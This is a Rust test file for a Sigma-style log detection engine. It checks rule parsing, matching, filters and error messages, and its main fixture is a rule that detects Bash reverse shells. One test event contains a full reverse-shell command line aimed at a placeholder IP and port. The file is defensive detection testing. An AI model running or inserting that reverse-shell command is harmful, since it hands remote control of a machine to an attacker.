//! Whole rules: parsing, routing, matching, and the errors a broken rule gets.

use serde_json::{json, Map, Value};

use super::*;

const REVERSE_SHELL: &str = r#"
title: Bash reverse shell
id: 11111111-2222-3333-4444-555555555555
status: test
author: Vigie tests
level: high
tags:
    - attack.execution
    - attack.t1059.004
logsource:
    product: linux
    category: process_creation
detection:
    selection_image:
        Image|endswith: '/bash'
    selection_cli:
        CommandLine|contains|all:
            - '/dev/tcp/'
            - '>&'
    filter_admin:
        User: 'backup'
    condition: all of selection_* and not 1 of filter_*
"#;

fn event(v: Value) -> Map<String, Value> {
    v.as_object().unwrap().clone()
}

#[test]
fn a_rule_matches_what_it_describes_and_nothing_else() {
    let (rules, errors) = parse_rules(REVERSE_SHELL, "reverse.yml");
    assert!(errors.is_empty(), "{errors:?}");
    let rule = &rules[0];
    assert_eq!(rule.info.title, "Bash reverse shell");
    assert_eq!(rule.info.author, "Vigie tests");
    assert_eq!(rule.info.tags, vec!["attack.execution", "attack.t1059.004"]);
    let hit = event(
        json!({"product": "linux", "category": "process_creation", "Image": "/usr/bin/bash",
        "CommandLine": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "User": "www-data"}),
    );
    assert!(rule.matches(&hit));
    let mut filtered = hit.clone();
    filtered.insert("User".into(), json!("BACKUP"));
    assert!(
        !rule.matches(&filtered),
        "the filter excludes it (case-insensitive)"
    );
    let mut other_category = hit.clone();
    other_category.insert("category".into(), json!("file_event"));
    assert!(!rule.matches(&other_category), "routed by log source");
    let mut near_miss = hit.clone();
    near_miss.insert("CommandLine".into(), json!("bash -c 'cat /dev/tcp/x'"));
    assert!(!rule.matches(&near_miss), "|all needs every value");
}

#[test]
fn lists_of_maps_keywords_and_null() {
    let text = r#"
title: t
logsource: {product: linux}
detection:
    keywords:
        - 'session opened for user root'
        - 'FAILED SU'
    alternatives:
        - Image: '/bin/su'
        - Image: '/usr/bin/sudo'
          User: null
    condition: keywords or alternatives
"#;
    let (rules, errors) = parse_rules(text, "k.yml");
    assert!(errors.is_empty(), "{errors:?}");
    let rule = &rules[0];
    assert!(rule.matches(&event(
        json!({"product": "linux", "message": "pam: Session opened for user root by x"})
    )));
    assert!(rule.matches(&event(
        json!({"product": "linux", "Image": "/usr/bin/sudo"})
    )));
    assert!(!rule.matches(&event(
        json!({"product": "linux", "Image": "/usr/bin/sudo", "User": "bob"})
    )));
    assert!(!rule.matches(&event(json!({"product": "windows", "Image": "/bin/su"}))));
}

#[test]
fn broken_rules_are_refused_with_file_line_and_reason() {
    let bad_modifier = REVERSE_SHELL.replace("Image|endswith", "Image|endswit");
    let (rules, errors) = parse_rules(&bad_modifier, "bad.yml");
    assert!(rules.is_empty());
    let e = &errors[0];
    assert_eq!(e.origin, "bad.yml");
    assert!(e.reason.contains("\"endswit\""), "{e}");
    assert_eq!(e.line, Some(14), "{e}");

    let (_, errors) = parse_rules("title: x\n  bad: [indent\n", "yaml.yml");
    assert!(
        errors[0].reason.starts_with("not valid YAML"),
        "{}",
        errors[0]
    );
    assert!(errors[0].line.is_some());

    let missing = REVERSE_SHELL.replace("not 1 of filter_*", "not filter_nope");
    let (_, errors) = parse_rules(&missing, "cond.yml");
    assert!(errors[0].reason.contains("filter_nope"), "{}", errors[0]);

    let bad_regex = REVERSE_SHELL.replace("Image|endswith: '/bash'", "Image|re: '(?=x)'");
    let (_, errors) = parse_rules(&bad_regex, "re.yml");
    assert!(
        errors[0].reason.contains("regular expression"),
        "{}",
        errors[0]
    );
}

#[test]
fn several_documents_in_one_file_load_independently() {
    let text = format!("{REVERSE_SHELL}\n---\ntitle: broken\nlogsource: {{product: linux}}\ndetection: {{condition: x}}\n");
    let (rules, errors) = parse_rules(&text, "multi.yml");
    assert_eq!(rules.len(), 1);
    assert_eq!(errors.len(), 1);
}
